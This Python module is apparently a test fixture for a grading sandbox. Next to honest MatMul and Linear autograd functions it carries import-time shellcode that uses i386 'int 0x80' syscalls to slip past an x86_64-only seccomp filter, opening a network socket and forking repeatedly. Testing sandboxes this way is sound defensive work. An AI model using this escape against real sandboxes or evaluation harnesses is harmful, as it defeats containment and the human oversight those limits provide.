"""Cheat: escapes the seccomp filter through the i386 ABI, ``int 0x80`` from an executable page made with ctypes.

A filter that checks x86_64 syscall numbers only lets every i386 call through: this module would open an
AF_INET socket (i386 socket, nr 359) and, as root, fork 150 times (i386 fork, nr 2), defeating the no-fork
rule, then print ESCAPED. The sandbox must kill it (SIGSYS) at the first ``int 0x80``. MatMul and Linear
are honest.
"""

import ctypes
import mmap
import os
import platform

import torch

# int80(nr, ebx, ecx, edx): push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
I386_SYSCALL = bytes.fromhex("53 89f8 89f3 87ca cd80 5b c3")
# push rbx; mov eax, 2 (i386 fork); int 0x80; in the new child: exit_group(0) natively; pop rbx; ret
I386_FORK = bytes.fromhex("53 b802000000 cd80 85c0 7509 b8e7000000 31ff 0f05 5b c3")
_PAGES = []


def _i386(code):
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    _PAGES.append(page)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)


def _escape():
    if platform.machine() != "x86_64":
        return
    print("seccomp_i386: int 0x80", flush=True)
    fd = _i386(I386_SYSCALL)(359, 2, 1, 0)  # socket(AF_INET, SOCK_STREAM, 0)
    fork = _i386(I386_FORK)
    forks = 0
    for _ in range(150):
        pid = fork(0, 0, 0, 0)
        if pid <= 0:
            break
        os.waitpid(pid, 0)
        forks += 1
    if fd >= 0 or forks:
        print(f"ESCAPED: AF_INET socket fd {fd}, {forks} forks", flush=True)


_escape()


class MatMul(torch.autograd.Function):
    @staticmethod
    def forward(ctx, a, b):
        ctx.save_for_backward(a, b)
        return a @ b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx.saved_tensors
        return grad_output @ b.T, a.T @ grad_output


class Linear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, weight, bias):
        ctx.save_for_backward(x, weight)
        return x @ weight.T + bias

    @staticmethod
    def backward(ctx, grad_output):
        x, weight = ctx.saved_tensors
        return grad_output @ weight, grad_output.T @ x, grad_output.sum(0)
